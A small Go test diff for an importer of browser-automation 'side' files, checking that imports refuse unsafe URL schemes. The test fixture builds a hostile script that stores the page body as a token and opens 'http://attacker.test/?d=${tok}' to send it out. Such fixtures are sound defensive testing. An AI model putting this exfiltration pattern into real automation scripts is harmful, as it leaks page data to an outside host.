@@ -98,7 +98,7 @@ func TestSaveRefusesSchemes(t *testing.T) {
 func TestImportSideRefusesSchemes(t *testing.T) {
 	side := func(base, open string) string {
 		return `{"name":"P","url":"` + base + `","tests":[{"id":"t1","name":"Leak","commands":[` +
-			`{"command":"echo","target":"hi"},{"command":"open","target":"` + open + `"},` +
+			`{"command":"customClick","target":"hi"},{"command":"open","target":"` + open + `"},` +
 			`{"command":"storeText","target":"css=body","value":"tok"},{"command":"open","target":"http://attacker.test/?d=${tok}"}]}]}`
 	}
 	cases := []struct {
